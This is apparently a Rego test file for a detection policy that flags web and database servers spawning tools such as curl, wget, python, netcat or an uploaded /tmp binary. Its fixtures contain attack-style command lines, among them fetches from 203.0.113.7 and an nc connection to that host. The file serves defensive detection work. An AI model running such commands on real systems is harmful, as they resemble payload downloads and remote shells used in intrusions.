package sentinel.server_starts_tool_test

import data.sentinel.fixtures as fx
import data.sentinel.server_starts_tool.alert
import data.sentinel.server_starts_tool.deny

test_nginx_starts_curl if {
	deny == {"/usr/sbin/nginx starts /usr/bin/curl"} with input as fx.exec("/usr/sbin/nginx", "/usr/bin/curl", ["curl", "http://203.0.113.7/x"])
}

test_redis_starts_python if {
	count(deny) == 1 with input as fx.exec("/usr/bin/redis-server", "/usr/bin/python3.11", ["python3", "-c", "1"])
}

test_apache_starts_wget if {
	count(deny) == 0 with input as fx.exec("/usr/sbin/apache2", "/usr/bin/wget", ["wget", "http://203.0.113.7/x"])
	alert == {"/usr/sbin/apache2 starts: wget http://203.0.113.7/x"} with input as fx.exec("/usr/sbin/apache2", "/usr/bin/wget", ["wget", "http://203.0.113.7/x"])
}

test_php_starts_netcat if {
	count(alert) == 1 with input as fx.exec("/usr/sbin/php-fpm8.2", "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "443"])
}

test_php_starts_an_upload if {
	count(alert) == 1 with input as fx.exec("/usr/sbin/php-fpm8.2", "/tmp/phpA1b2", ["/tmp/phpA1b2"])
}

test_nginx_starts_a_new_nginx if {
	count(deny | alert) == 0 with input as fx.exec("/usr/sbin/nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon on;"])
}

test_systemd_starts_nginx if {
	count(deny | alert) == 0 with input as data.sentinel.events.exec_service
}

test_php_starts_an_image_tool if {
	count(deny | alert) == 0 with input as fx.exec("/usr/sbin/php-fpm8.2", "/usr/bin/convert", ["convert", "a.png", "b.jpg"])
}

test_shell_starts_curl if {
	count(deny | alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/curl", ["curl", "https://example.com"])
}
